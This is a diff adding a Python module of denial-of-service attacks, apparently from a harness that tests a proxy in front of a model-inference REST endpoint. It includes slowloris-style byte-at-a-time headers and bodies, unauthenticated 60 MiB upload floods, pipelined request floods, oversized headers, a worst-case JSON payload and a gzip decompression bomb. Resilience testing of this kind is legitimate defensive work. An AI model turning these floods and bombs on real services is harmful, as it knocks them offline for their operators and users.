@@ -1,0 +1,134 @@
+"""What strangers and callers can do on the REST port, over HTTP/1.1."""
+
+from __future__ import annotations
+
+import gzip
+
+from attacks import ways
+from attacks.http2_client import Address, Connection
+from attacks.strangers import Attack, connect
+from attacks.world import MB, Tally, Target
+
+_INFER = "/v2/models/identity_uint8/infer"
+_ANNOUNCED = 60 * MB
+_PIECE = bytes(64 << 10)
+# As large as JSON may be, of what takes most memory once it is parsed.
+_WORST_JSON = b'{"inputs":[' + b"{}," * ((8 * MB) // 3 - 30) + b"{}]}"
+_BOMB = gzip.compress(bytes(63 * MB), 9)
+
+
+def listener(target: Target) -> Address:
+    """The REST listener."""
+    return target.rest
+
+
+def _open(target: Target) -> Connection:
+    return connect(target.rest, greets=False)
+
+
+def _head(method: str, path: str, *fields: str) -> bytes:
+    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: proxy", *fields, "", ""]).encode()
+
+
+def _credential(target: Target) -> str:
+    return f"X-Domino-Api-Key: {target.key}"
+
+
+def slow_heads(target: Target, tally: Tally) -> None:
+    """Heads that come a byte at a time."""
+
+    def open_one(_: int) -> Connection:
+        connection = _open(target)
+        connection.send(_head("GET", "/v2/health/live")[:-2] + b"X-Slow: ")
+        return connection
+
+    ways.hold(tally, open_one, target.count(600), reads=False, tend=lambda connection: connection.send(b"s"))
+
+
+def slow_bodies(target: Target, tally: Tally) -> None:
+    """Bodies without a credential that come a byte at a time."""
+    head = _head("POST", _INFER, f"Content-Length: {_ANNOUNCED}")
+
+    def open_one(_: int) -> Connection:
+        connection = _open(target)
+        connection.send(head)
+        return connection
+
+    ways.hold(tally, open_one, target.count(600), reads=False, tend=lambda connection: connection.send(b"s"))
+
+
+def uploads(target: Target, tally: Tally) -> None:
+    """Bodies without a credential, at full speed, whose refusals are not read."""
+    head = _head("POST", _INFER, f"Content-Length: {_ANNOUNCED}")
+
+    def open_one() -> Connection:
+        connection = _open(target)
+        connection.send(head)
+        return connection
+
+    def step(connection: Connection) -> int:
+        connection.send(_PIECE)
+        return len(_PIECE)
+
+    ways.flood(tally, open_one, step, 4, reads=False)
+
+
+def request_flood(head: bytes, *, reads: bool) -> Attack:
+    """One request again and again, each sent ahead of the answer to the one before."""
+
+    def attack(target: Target, tally: Tally) -> None:
+        def step(connection: Connection) -> int:
+            connection.send(head * 50)
+            return 50
+
+        ways.flood(tally, lambda: _open(target), step, 4, reads=reads)
+
+    return attack
+
+
+NO_CREDENTIAL = _head("GET", "/v2")
+HEALTH = _head("GET", "/v2/health/ready")
+HUGE = _head("GET", "/v2", "X-Huge: " + "x" * (40 << 10))
+
+
+def unfinished_bodies(target: Target, tally: Tally) -> None:
+    """Bodies of 60 MiB of a caller, of which as much is sent as the proxy takes, but for the last bytes."""
+    head = _head("POST", _INFER, _credential(target), f"Content-Length: {_ANNOUNCED}")
+
+    def open_one() -> Connection:
+        connection = _open(target)
+        connection.send(head)
+        return connection
+
+    def step(connection: Connection) -> int:
+        connection.send(_PIECE)
+        return len(_PIECE)
+
+    ways.flood(tally, open_one, step, target.count(100), reads=False)
+
+
+def posted(body: bytes, *fields: str, together: int) -> Attack:
+    """A body of a caller again and again, each on a connection of its own.
+
+    Args:
+        body: what is sent.
+        fields: header fields besides.
+        together: how many at once.
+    """
+
+    def attack(target: Target, tally: Tally) -> None:
+        raw = _head("POST", _INFER, _credential(target), f"Content-Length: {len(body)}", *fields) + body
+
+        def once() -> None:
+            with _open(target) as connection:
+                connection.send(raw)
+                while tally.going_on and connection.pump(0.2):
+                    pass
+
+        ways.again(tally, once, together)
+
+    return attack
+
+
+WORST_JSON = posted(_WORST_JSON, together=8)
+BOMB = posted(_BOMB, "Content-Encoding: gzip", together=8)
